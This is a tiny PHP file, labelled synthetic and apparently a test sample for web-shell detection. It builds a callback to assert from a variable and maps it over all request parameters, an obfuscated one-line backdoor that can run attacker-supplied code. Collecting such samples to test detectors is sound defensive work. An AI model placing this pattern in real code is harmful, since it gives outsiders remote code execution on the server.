<?php
// synthetic: the callback is an interpolated variable holding a dangerous name
$n = 'assert';
array_map("$n", $_REQUEST);
